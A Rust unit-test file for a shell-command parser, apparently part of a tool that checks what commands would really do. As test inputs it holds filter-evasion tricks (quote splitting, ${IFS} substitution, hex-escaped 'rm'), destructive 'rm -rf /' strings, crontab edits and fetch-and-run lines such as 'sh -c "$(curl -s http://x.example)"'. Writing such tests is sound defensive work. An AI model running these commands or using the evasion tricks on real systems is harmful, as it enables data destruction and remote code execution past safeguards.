//! What a shell would make of it.

use super::*;

fn words(text: &str) -> Vec<Vec<String>> {
    read(text).into_iter().map(|simple| simple.words).collect()
}

#[test]
fn words_and_tricks() {
    for (text, wanted) in [
        ("ls -la | grep foo", vec![vec!["ls", "-la"], vec!["grep", "foo"]]),
        ("w'h'oa\"m\"i", vec![vec!["whoami"]]),
        ("w\\ho\\am\\i", vec![vec!["whoami"]]),
        ("who$@ami", vec![vec!["whoami"]]),
        ("cat${IFS}/etc/hosts", vec![vec!["cat", "/etc/hosts"]]),
        ("cat$IFS$9/etc/hosts", vec![vec!["cat", "/etc/hosts"]]),
        ("a=r;b=m;$a$b -rf x", vec![vec!["a=r"], vec!["b=m"], vec!["rm", "-rf", "x"]]),
        ("$'\\x72\\x6d' x", vec![vec!["rm", "x"]]),
        ("echo \"a; b\" 'c | d' # e; f", vec![vec!["echo", "a; b", "c | d"]]),
        ("type C:\\a\\b.txt", vec![vec!["type", "C:\\a\\b.txt"]]),
        ("a && b || c & d", vec![vec!["a"], vec!["b"], vec!["c"], vec!["d"]]),
    ] {
        assert_eq!(words(text), wanted, "{text}");
    }
}

#[test]
fn nesting_and_pipes() {
    let commands = read("sh -c \"$(curl -s http://x.example)\"");
    assert_eq!(commands.len(), 2);
    assert_eq!(commands[0].words, ["curl", "-s", "http://x.example"]);
    assert_eq!(commands[1].inner.first(), Some(&(0..1)));
    let commands = read("bash <(curl -s x)");
    assert_eq!((commands[1].words.len(), commands[1].inner.first()), (2, Some(&(0..1))));
    let commands = read("(crontab -l; echo x) | crontab -");
    assert_eq!(commands[2].piped_from, Some(1));
    let commands = read("a | b || c");
    assert_eq!((commands[1].piped_from, commands[2].piped_from), (Some(0), None));
}

#[test]
fn redirections_and_wrappers() {
    let commands = read("sudo -u root env A=b tee -a x < in 2>&1 >> out");
    let (program, arguments) = commands[0].program();
    assert_eq!((program.as_str(), arguments.join(" ").as_str()), ("tee", "-a x"));
    assert_eq!((commands[0].reads.join(""), commands[0].writes.join("")), ("in".into(), "out".into()));
    assert!(commands[0].joins_streams);
    assert_eq!(read("timeout 60 cargo test")[0].program().0, "cargo");
}

#[test]
fn texts_of_input_and_open_quotes() {
    let commands = read("cat <<'END' > a.txt\nit's; rm\nEND\nls");
    assert_eq!((commands[0].input.as_str(), commands.len()), ("it's; rm\n", 2));
    assert_eq!(read("bash <<< 'rm -rf /'")[0].input, "rm -rf /");
    assert_eq!(words("it's; rm x"), [vec!["its"], vec!["rm", "x"]]);
    assert_eq!(words("5\" pipe; rm x"), [vec!["5", "pipe"], vec!["rm", "x"]]);
}

#[test]
fn escapes_of_c() {
    assert_eq!(unescaped("\\x72\\155 \\u0041\\n\\q\\"), "rm A\nq\\");
}
